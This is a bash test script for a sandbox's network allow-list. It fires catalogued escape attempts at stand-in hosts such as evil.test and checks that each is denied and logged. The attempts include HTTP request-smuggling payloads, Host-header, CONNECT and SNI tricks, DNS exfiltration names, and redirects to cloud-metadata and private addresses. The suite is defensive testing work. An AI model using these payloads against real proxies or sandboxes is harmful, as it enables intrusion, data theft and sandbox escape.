#!/bin/bash
# SPDX-License-Identifier: MIT
#
# The allow-list against those who talk their way round one: each way that got
# out of another sandbox, with servers that would have answered.
# shellcheck source-path=SCRIPTDIR source=lib.sh
. "$(dirname "$0")/lib.sh"

need jq python3 ip
# The world and what no rule may lead to: all of it is on this "host".
world_netns

mkdir "$T/world"
cat >"$T/world/zone" <<END
good.test $OWN
v6.test $V6
own.test $OTHER
loopback.test 127.0.0.1
zero.test 0.0.0.0
private.test $PRIVATE
metadata.test $METADATA
cgnat.test 100.64.0.1
ula.test fd00::1
link.test fe80::1
six.test ::1
mapped.test ::ffff:$PRIVATE
nat64.test 64:ff9b::a09:807
6to4.test 2002:a09:807::1
mixed.test $PRIVATE $OWN
flip.test flip $OWN $PRIVATE
long.test$(printf " $OWN%.0s" {1..40})
deep.wild.test $OWN
wild.test $OWN
END
make_world || skip "no mount namespace can be made here"
cp "$TOP/tests/standin/net-probe.py" "$T/probe.py"

# try OPTION... -- ATTEMPT...: what came of them in $T/out.
try() {
	local options=()
	while [ "$1" != -- ]; do
		options+=("$1")
		shift
	done
	shift
	rm -f "$T/events.jsonl"
	: >"$T/world/asked"
	: >"$T/world/hits"
	run "${in_world[@]}" "$M9M" -q --no-artifact --verbose \
		--events "$T/events.jsonl" --input "$T/probe.py" \
		"${options[@]}" -- python3 -B probe.py "$@"
	[ "$rc" = 0 ] || { not_ok "the probe ran"; show_output; }
}

result() {
	A="$1 -> " awk 'index($0, ENVIRON["A"]) == 1 {
		print substr($0, length(ENVIRON["A"]) + 1); exit }' "$T/out"
}

# came ATTEMPT RESULT: to the letter; came_of ATTEMPT REGEX.
came() { is "$1: $2" "$(result "$1")" "$2"; }
came_of() {
	check "$1: $(result "$1")" grep -qE "^($2)\$" <<<"$(result "$1")"
}

untouched() { is "$1: no server was reached" "$(cat "$T/world/hits")" ""; }
unasked() { is "$1: no resolver was asked" "$(cat "$T/world/asked")" ""; }

# denied FILTER: an event with a reason.
denied() {
	check "an event says so: $1" test -n \
		"$(events denied "$1" | jq -r .reason | head -n 1)"
}

H='\r\n\r\n' G='GET / HTTP/1.1\r\nHost:'

echo "# outside each of these gets through"
outside=("say:good.test:80:$G evil.test$H"
	"say:metadata.test:80:$G metadata.test$H"
	"say:private.test:80:$G private.test$H" "say:own.test:80:$G own.test$H"
	"say:loopback.test:80:$G loopback.test$H" "say:$METADATA:80:$G x$H"
	"say:$PRIVATE:80:$G x$H" "say:secret.good.test:80:x"
	tls:good.test:443:evil.test tls:good.test:443:- "say:$OWN:443:x"
	"say:$OWN:5432:x")
run "${in_world[@]}" python3 -B "$T/probe.py" "${outside[@]}"
for attempt in "${outside[@]}"; do
	case $attempt in
	say:secret.*) ;;
	*:80:*) came_of "$attempt" 'HTTP/1.1 200 OK .*served' ;;
	*) came "$attempt" heard ;;
	esac
done
check "a name carries its data to the resolver" \
	grep -qx secret.good.test "$T/world/asked"
: >"$T/world/hits"
: >"$T/world/asked"

echo "# 1: what means nothing, and what would mean everything"
echo '{"network": {"hosts": []}}' >"$T/empty.json"
try --spec "$T/empty.json" -- "say:$OWN:443:x" "say:good.test:443:x" \
	"say:127.0.0.1:80:x" "say:[::1]:80:x"
untouched "an empty list"
unasked "an empty list"
came say:good.test:443:x EAI_AGAIN

echo "# deny: what is tried is on record all the same"
try --network deny -- dns:secret.evil.test:1 say:good.test:443:x \
	"say:$OWN:443:x" udp:8.8.8.8:53000
untouched deny
unasked deny
came say:good.test:443:x EAI_AGAIN
came "say:$OWN:443:x" ECONNREFUSED
is "questions" "$(events dns | jq -r '"\(.name) \(.verdict)"' | sort -u |
	paste -sd ' ')" "good.test denied secret.evil.test denied"
denied ".addr == \"$OWN\" and .port == 443"
denied '.protocol == "udp" and .addr == "8.8.8.8"'
echo "# the same of a run that nobody asked for anything"
run "${in_world[@]}" "$M9M" --summary never --no-artifact \
	--result "$T/result.json" --input "$T/probe.py" \
	python3 -B probe.py say:good.test:443:x "say:$OWN:443:x" \
	"say:$OWN:9999:x" udp:8.8.8.8:53000
came say:good.test:443:x EAI_AGAIN
came "say:$OWN:443:x" ECONNREFUSED
untouched deny
unasked deny
json_is "$T/result.json" '.network.dns_denied > 0' true
json_is "$T/result.json" .network.connect_denied 3
lacks "$T/result.json" "not recorded"
jq -r 'select(.event == "denied" or .event == "dns") |
	"\(.name // .addr) \(.port) \(.verdict)"' "$AUDIT" >"$T/audited"
contains "$T/audited" "good.test null denied"
contains "$T/audited" "$OWN 443 denied"
contains "$T/audited" "$OWN 9999 denied"
contains "$T/audited" "8.8.8.8 53000 denied"
mkfifo "$T/hold"
exec 9<>"$T/hold"
for count in 0 1; do
	first=pass
	[ "$count" = 0 ] || first="import socket; socket.socket()"
	: >"$T/late.out"
	"$M9M" -q --no-artifact -- python3 -uc "$first
print('ready')
input()" <&9 >"$T/late.out" &
	job=$!
	await_line "$T/late.out" ready
	is "who never wanted a socket has no relay, who did has one: $count" \
		"$(pgrep -c -P "$job" -f "network relay")" "$count"
	echo >&9
	wait "$job"
done
exec 9>&-

echo "# 1: lists that are none"
for hosts in null '[null]' '[""]' '["*"]' '["*."]' '["0.0.0.0/0"]' '["::/0"]' \
	'["http://good.test"]' '["good.test:0"]' '["a b"]' '["127.1"]' \
	'["good.test\u0000x"]' '["0x7f.1"]' '"*"' '{}'; do
	echo "{\"command\": [\"true\"], \"network\": {\"hosts\": $hosts}}" \
		>"$T/bad.json"
	run "$M9M" --spec "$T/bad.json"
	is "hosts $hosts: exit 125" "$rc" 125
	matches "$T/err" '\$\.network\.hosts|NUL character'
done

echo "# 2, 3: odd names, and names that look like an allowed one"
allow=(--allow good.test:80 --allow good.test:443 --allow "$OWN:443"
	--allow "$OWN:80" --allow '*.wild.test:80')
odd=('good.test\x00.evil.test' 'good.test\x00' 'good.test .evil.test'
	'good\x0d\x0a.test' 'good.test%00.evil.test' 'xgood.test'
	'good.test.evil.test' 'good\xef\xbc\x8etest' 'good-test' 'goodxtest'
	'wild.test' 'xwild.test' 'x.wild.test.evil.test' '\x00' '*.wild.test')
attempts=()
for name in "${odd[@]}"; do attempts+=("dns:$name:1"); done
try "${allow[@]}" -- "${attempts[@]}" dns:GOOD.Test:1 dns:deep.wild.test:1
for name in "${odd[@]}"; do
	came "dns:$name:1" "rcode 5 none"
done
came_of dns:GOOD.Test:1 'rcode 0 198\.1[89]\..*'
came_of dns:deep.wild.test:1 'rcode 0 198\.1[89]\..*'
unasked "questions alone"

echo "# 4: one name to the resolver, another in TLS"
try "${allow[@]}" -- tls:good.test:443:good.test tls:good.test:443:evil.test \
	tls:good.test:443:xgood.test tls:good.test:443:- \
	'say:good.test:443:\x16\x03\x01\x00\x05nonsense' \
	'say:good.test:443:\x80\x2e\x01\x03\x03\x00\x15\x00\x00\x00\x10' \
	'say:good.test:443:PROXY UNKNOWN\r\nevil.test'
came tls:good.test:443:good.test heard
for sni in evil.test xgood.test -; do
	came "tls:good.test:443:$sni" ECONNRESET
done
is "the server heard one hello" "$(grep -vc accepted "$T/world/hits")" 1
contains "$T/world/hits" good.test
lacks "$T/world/hits" evil
denied '.reason | contains("evil.test")'
denied '.reason | contains("without a server name")'
denied '.reason | contains("form of SSL 2")'
denied '.reason | contains("PROXY")'
try "${allow[@]}" --require-tls 443 -- 'say:good.test:443:SSH-2.0-x' \
	"say:$OWN:443:SSH-2.0-x" tls:good.test:443:good.test "tls:$OWN:443:-"
came 'say:good.test:443:SSH-2.0-x' ECONNRESET
came "say:$OWN:443:SSH-2.0-x" ECONNRESET
came tls:good.test:443:good.test heard
came "tls:$OWN:443:-" heard
lacks "$T/world/hits" SSH
denied '.reason | contains("requires TLS")'

# Whom a hidden name is for, nobody here can know.
hidden=(ech:good.test:443:good.test ech:good.test:443:evil.test ech:good.test:443:-)
try "${allow[@]}" -- "${hidden[@]}"
for attempt in "${hidden[@]}"; do came "$attempt" ECONNRESET; done
is "the name that is hidden is told of, and what would let it" \
	"$(events denied '.reason | test("ECH")' | jq -r .remedy)" --allow-ech
try "${allow[@]}" --allow-ech -- "${hidden[@]}"
came ech:good.test:443:good.test heard
for attempt in "${hidden[@]:1}"; do came "$attempt" ECONNRESET; done

echo "# 5, 6: another host in HTTP"
bad=("say:good.test:80:$G evil.test$H"
	"say:good.test:80:GET http://evil.test/ HTTP/1.1\r\nHost: good.test$H"
	"say:good.test:443:$G evil.test$H"
	"say:good.test:443:get / HTTP/1.1\r\nHost: evil.test$H"
	"say:good.test:443:M_SEARCH-ABCDEFGHIJ / HTTP/1.1\r\nHost: evil.test$H"
	"say:good.test:80:CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test$H"
	"say:good.test:443:CONNECT evil.test:443$H"
	"say:good.test:443:0032git / HTTP/1.1\r\nHost: evil.test$H"
	"say:good.test:80:\x01 / HTTP/1.1\r\nHost: evil.test$H"
	"say:good.test:80:GET /1 HTTP/1.1\r\nHost: good.test$H|GET /2 HTTP/1.1\r\nHost: evil.test$H"
	"say:good.test:80:GET /3 HTTP/1.1\r\nHost: good.test${H}GET /4 HTTP/1.1\r\nHost: evil.test$H")
try "${allow[@]}" -- "say:good.test:80:$G good.test$H" "${bad[@]}"
came_of "say:good.test:80:$G good.test$H" 'HTTP/1.1 200 OK .*served'
lacks "$T/world/hits" evil.test
contains "$T/world/hits" "GET /1 "
lacks "$T/world/hits" "GET /2 "
lacks "$T/world/hits" "GET /4 "
is "each is told of" "$(events denied '.name == "good.test"' | wc -l)" \
	${#bad[@]}

: >"$T/world/hits"
echo "# 6: heads and bodies that two servers read in two ways"
P='POST / HTTP/1.1\r\nHost: good.test' E='GET /evil HTTP/1.1\r\nHost: evil.test'
two_ways=("$P\r\nContent-Length: 6\r\nTransfer-Encoding: chunked${H}0\r\n\r\n$E$H"
	"$P\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x${H}0\r\n\r\n$E$H"
	"$P\r\nTransfer-Encoding : chunked${H}0\r\n\r\n$E$H"
	"$P\r\nTransfer-Encoding: xchunked${H}0\r\n\r\n$E$H"
	"$P\r\nContent-Length: 0\r\nContent-Length: 99$H$E$H"
	"$P\r\nContent-Length: +0$H$E$H" "$P\r\nX: y\r\n Host: evil.test$H"
	"$P\r\nHost: evil.test$H" "$P\n\n$E\n\n" "$P\r\nX: y\rHost: evil.test$H"
	"$P\r\nTransfer-Encoding: chunked${H}0x0\r\n\r\n$E$H"
	"$P\r\nTransfer-Encoding: chunked${H}1\r\nab\r\n0\r\n\r\n$E$H"
	"$P\r\nTransfer-Encoding: chunked${H}0\r\nX: y\r\n$E$H"
	"$P\r\nContent-Length: 39$H$E$H"
	"$P\r\nTransfer_Encoding: chunked\r\nContent-Length: 44${H}0\r\n\r\n$E$H"
	"GET / HTTP/1.1\r\nHost: good.test@evil.test$H" "GET / HTTP/1.1$H"
	"$P\r\nUpgrade: h2c\r\nUpgrade: websocket${H}PRI * HTTP/2.0${H}SM${H}evil"
	"GET //evil.test/ HTTP/1.1\r\nHost: evil.test$H"
	"GET http://good.test@evil.test/ HTTP/1.1\r\nHost: good.test$H"
	"PRI * HTTP/2.0${H}SM$H")
attempts=()
for words in "${two_ways[@]}"; do attempts+=("say:good.test:80:$words"); done
run "${in_world[@]}" python3 -B "$T/probe.py" "${attempts[@]}"
is "outside each reaches the server" \
	"$(grep -c '80 accepted' "$T/world/hits")" ${#two_ways[@]}
contains "$T/world/hits" evil
try "${allow[@]}" -- "${attempts[@]}"
lacks "$T/world/hits" evil
is "each is told of" "$(events denied '.name == "good.test"' | wc -l)" \
	${#two_ways[@]}
many="GET /0 HTTP/1.1\r\nHost: good.test$H"
for i in 1 2 3 4 5 6 7 8 9; do many="$many${many%%/0*}/$i HTTP/1.1\r\nHost: good.test$H"; done
try "${allow[@]}" -- "say:good.test:80:$many$E$H"
# Who asks is cut off before the server has read what it was sent.
check "the good ones before it are passed on" \
	await_line "$T/world/hits" "GET /9 "
lacks "$T/world/hits" evil

echo "# 7: a way in between changes nothing"
cat >"$T/hop.py" <<END
import os, socket, threading
entry = socket.create_server(("127.0.0.1", 8080))
def serve():
    client, _ = entry.accept()
    try:
        socket.create_connection(("$OWN", 5432), 5).sendall(client.recv(9))
    except OSError as e:
        client.sendall(str(e.errno).encode())
    client.close()
threading.Thread(target=serve, daemon=True).start()
with socket.create_connection(("127.0.0.1", 8080)) as s:
    s.sendall(b"secret")
    print(s.recv(9), flush=True)
os._exit(0)
END
: >"$T/world/hits"
run "${in_world[@]}" "$M9M" -q --no-artifact "${allow[@]}" \
	--input "$T/hop.py" python3 -B hop.py
is "a relay of the payload's own gets no further" "$(cat "$T/out")" "b'111'"
untouched "by a hop"

echo "# 9: names that carry data"
long=$(printf 'a%.0s' {1..60})
types=(16 10 15 255 12 5 2 65280)
attempts=()
for type in "${types[@]}"; do attempts+=("dns:good.test:$type"); done
try "${allow[@]}" -- dns:secret.evil.test:1 dns:secret.good.test:1 \
	dns:good.test:28 dns:1.2.0.192.in-addr.arpa:12 "${attempts[@]}" \
	"dns:$long.$long.$long.wild.test:1" say:evil.test:443:x \
	"say:$OWN:853:x" say:good.test:853:x
for name in secret.evil.test:1 secret.good.test:1 1.2.0.192.in-addr.arpa:12; do
	came "dns:$name" "rcode 5 none"
done
for type in "${types[@]}"; do came "dns:good.test:$type" "rcode 5 none"; done
came dns:good.test:28 "rcode 0 none"
came "dns:$long.$long.$long.wild.test:1" "rcode 5 none"
came say:evil.test:443:x EAI_AGAIN
came "say:$OWN:853:x" ECONNREFUSED
came say:good.test:853:x ECONNREFUSED
unasked "whatever was asked inside"
is "each question is on record" "$(events dns '.name == "secret.evil.test"' |
	jq -r .verdict)" denied

echo "# 10, 11: allowed names that lead where no name may"
bad=(loopback zero private metadata cgnat ula link six mapped nat64 6to4 own)
options=() attempts=()
for name in "${bad[@]}"; do
	options+=(--allow "$name.test:80")
	attempts+=("say:$name.test:80:$G $name.test$H")
done
try "${options[@]}" -- "${attempts[@]}"
untouched "a special address behind a name"
for name in "${bad[@]}"; do
	came "say:$name.test:80:$G $name.test$H" ECONNRESET
	check "$name.test was asked for" grep -qx "$name.test" "$T/world/asked"
	denied ".name == \"$name.test\""
done
denied '.name == "metadata.test" and (.reason | contains("169.254.169.254"))'
denied '.name == "own.test" and (.reason | contains("of this host"))'
is "no rule reaches an address that has no link" \
	"$(events denied '.name == "link.test"' | jq -r '.remedy // ""')" ""
try --allow mixed.test:80 --allow flip.test:80 --allow "$OWN:80" -- \
	"say:mixed.test:80:$G mixed.test$H" "say:flip.test:80:$G flip.test$H"
lacks "$T/world/hits" "$PRIVATE"
is "of good and bad answers, and of the first, the good ones are dialled" \
	"$(grep -c "^$OWN 80 b'GET" "$T/world/hits")" 2
try --allow long.test:80 --allow "$OWN:80" -- "say:long.test:80:$G long.test$H"
came_of "say:long.test:80:$G long.test$H" 'HTTP/1.1 200 OK .*served'
try --allow "$PRIVATE:80" -- "say:$PRIVATE:80:$G x$H"
contains "$T/world/hits" "$PRIVATE 80 b'GET"

echo "# a port of the host's is reached by its name, and no other by it"
try --host-port 80 --allow loopback.test:80 --allow good.test:443 -- \
	"say:host.m9m.internal:80:$G x$H" "say:host.docker.internal:80:$G x$H" \
	say:host.m9m.internal:443:x say:host.m9m.internal:5432:x \
	say:x.host.m9m.internal:80:x "say:loopback.test:80:$G loopback.test$H" \
	say:127.0.0.1:80:x "say:[::1]:80:x" say:0.0.0.0:80:x "say:$OWN:80:x" \
	dns:host.m9m.internal:16 dns:host.m9m.internal:28 dns:host.m9m.internal:255
for name in host.m9m.internal host.docker.internal; do
	came_of "say:$name:80:$G x$H" 'HTTP/1.1 200 OK .*served'
done
is "nothing else was" "$(grep -c accepted "$T/world/hits")" 2
denied '.name == "host.m9m.internal" and .port == 443'
denied '.name == "host.m9m.internal" and .port == 5432'
denied '.name == "loopback.test" and .port == 80'
came say:x.host.m9m.internal:80:x EAI_AGAIN
for type in 16 255; do came "dns:host.m9m.internal:$type" "rcode 5 none"; done
came dns:host.m9m.internal:28 "rcode 0 none"
try --allow good.test:443 -- say:host.m9m.internal:443:x
came say:host.m9m.internal:443:x EAI_AGAIN
untouched "the host of a run that may not reach it"

for rule in 127.0.0.1:80 "[::1]:80" 127.0.0.0/8 "$OWN:80"; do
	run "$M9M" -q --no-artifact --result "$T/result.json" --allow "$rule" true
	is "a loopback address as a rule is warned of: $rule" \
		"$(jq -r '.warnings[]' "$T/result.json" | grep -c "host.m9m.internal, with --host-port")" \
		"$([ "$rule" = "$OWN:80" ]; echo $?)"
done

echo "# literals"
try "${allow[@]}" -- "say:$METADATA:80:x" "say:$PRIVATE:443:x" \
	"say:[::ffff:$PRIVATE]:443:x" "say:[64:ff9b::a09:807]:443:x" \
	"say:[2002:a09:807::1]:80:x" "say:[fd00:ec2::254]:80:x" \
	"say:198.18.77.77:443:x" "say:127.0.0.1:5432:x" "say:2130706433:5432:x" \
	"say:0:5432:x" "say:$OWN:5432:x" "say:$OWN:443:x"
is "only the address that was named is reached" \
	"$(sort -u "$T/world/hits" | paste -sd ' ')" \
	"$OWN 443 accepted $OWN 443 b'x'"
came "say:$OWN:443:x" heard
came "say:$OWN:5432:x" ECONNREFUSED
denied ".addr == \"$METADATA\""
denied ".addr == \"$PRIVATE\""
[ -z "$v6" ] || denied '.addr == "fd00:ec2::254"'
is "a port where nobody listens is on record, with the flag" \
	"$(events denied ".addr == \"$OWN\" and .port == 5432" |
		jq -r .remedy | head -n 1)" "--allow $OWN:5432"

if [ -n "$v6" ]; then
	echo "# hosts that have IPv6 only"
	try --allow v6.test:80 --allow "[$V6]:80" -- \
		"say:v6.test:80:$G v6.test$H" "say:[$V6]:80:$G x$H"
	is "by name and by address" "$(grep -c "^$V6 80 b'GET" "$T/world/hits")" 2
fi

echo "# 12, 13: other ways than TCP"
# ICMP, raw, ICMPv6, packet, vsock, alg, SCTP, RDS, CAN: family, type, protocol.
sockets=(2:2:1 2:3:1 2:3:255 10:3:58 17:3:768 17:2:768 40:1:0 38:5:0 2:1:132
	2:5:132 21:5:0 29:3:1)
attempts=()
for s in "${sockets[@]}"; do attempts+=("sock:$s"); done
try "${allow[@]}" -- "udp:$OWN:443" udp:8.8.8.8:53000 "${attempts[@]}" \
	"mptcp:$OWN:5432" "mptcp:$PRIVATE:443" devices
came "udp:$OWN:443" ECONNREFUSED
came udp:8.8.8.8:53000 ECONNREFUSED
denied '.protocol == "udp" and .port == 443'
is "no socket of another kind can be had" \
	"$(grep '^sock:.* -> made' "$T/out")" ""
came_of "mptcp:$OWN:5432" 'E[A-Z]+'
came_of "mptcp:$PRIVATE:443" 'E[A-Z]+'
came devices lo
untouched "other protocols"

echo "# 8: the rules are those of the start"
echo '{"network": {"hosts": ["good.test:80"]}}' >"$T/policy.json"
cat >"$T/late.sh" <<'END'
echo ready
read -r _
exec python3 -B probe.py say:evil.test:80:x
END
mkfifo "$T/go"
exec 8<>"$T/go"
: >"$T/world/asked"
: >"$T/late.out"
"${in_world[@]}" "$M9M" -q --no-artifact --spec "$T/policy.json" \
	--input "$T/probe.py" --input "$T/late.sh" -- sh late.sh <&8 \
	>"$T/late.out" 2>&1 &
job=$!
await_line "$T/late.out" ready
echo '{"network": "host"}' >"$T/policy.json"
relay=$(pgrep -P "$job" -f "network relay")
check "the relay is told to hang up" kill -HUP "$relay"
echo go >&8
wait "$job"
contains "$T/late.out" "EAI_AGAIN"
unasked "a spec that changed"
